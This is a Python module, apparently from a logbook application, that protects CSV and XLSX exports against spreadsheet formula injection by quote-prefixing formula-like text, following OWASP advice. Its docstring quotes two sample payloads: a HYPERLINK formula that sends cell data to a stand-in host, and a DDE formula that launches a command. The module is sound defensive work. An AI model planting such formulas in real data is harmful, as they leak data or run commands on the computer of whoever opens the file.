"""Spreadsheet-safe cells: text a user typed never becomes a live formula in an export.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a tab or carriage return in front of one is skipped by some importers, so remarks such as
``=HYPERLINK("http://host/?"&A1,"x")`` or ``=cmd|' /C calc'!A0`` would run when a commander opens
the export. The rule here is OWASP's "CSV Injection" advice
(https://owasp.org/www-community/attacks/CSV_Injection): a text cell starting with one of
``= + - @ TAB CR`` is written with a single quote in front in a CSV file, which every spreadsheet
program shows as text. In an XLSX file the cell is written as a text cell (never a formula) with
Excel's "quote prefix" style, so it shows exactly the text as typed and a program opening it keeps
it as text. Numbers (a negative sortie count, say) are not text and are left alone. The logbook
keeps the text exactly as typed; only the exported file carries the protection.
"""

from __future__ import annotations

import io
from typing import Any

__all__ = ["FORMULA_STARTS", "is_formula_like", "neutralise", "neutralise_frame", "frame_to_xlsx",
           "frame_to_csv"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """True when ``value`` is text that a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is formula-like text (for CSV); else unchanged."""
    return "'" + value if is_formula_like(value) else value


def neutralise_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every formula-like text cell (and header) neutralised."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype.kind not in "biufcmM":  # text (object or string dtype), not numbers or times
            out[col] = out[col].map(neutralise).astype(object)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def frame_to_csv(frame: Any) -> bytes:
    """A DataFrame as CSV bytes (UTF-8 with a byte-order mark for Excel), formula-like cells neutralised.

    Lines end in CR LF (RFC 4180), so a field holding a bare CR or LF is quoted and stays one field.
    """
    return neutralise_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def frame_to_xlsx(frame: Any, sheet_name: str = "sheet") -> bytes:
    """A DataFrame as an XLSX workbook in which no cell is a formula.

    Text cells are written as text (openpyxl data type ``s``) with the quote-prefix style where
    they look like a formula, so the workbook shows exactly the stored text. Missing values
    (None, NaN) are left empty.
    """
    import math

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = sheet_name[:31]
    columns = [str(c) for c in frame.columns]
    for j, name in enumerate(columns, start=1):
        _put(ws.cell(row=1, column=j), name)
    for i, row in enumerate(frame.itertuples(index=False, name=None), start=2):
        for j, value in enumerate(row, start=1):
            if value is None or (isinstance(value, float) and math.isnan(value)):
                continue
            if hasattr(value, "item") and not isinstance(value, str):
                value = value.item()  # numpy scalar -> Python
            _put(ws.cell(row=i, column=j), value)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _put(cell: Any, value: Any) -> None:
    if isinstance(value, str):
        cell.value = value
        cell.data_type = "s"  # openpyxl would make "=..." a formula; text stays text
        if is_formula_like(value):
            cell.quotePrefix = True
    else:
        cell.value = value
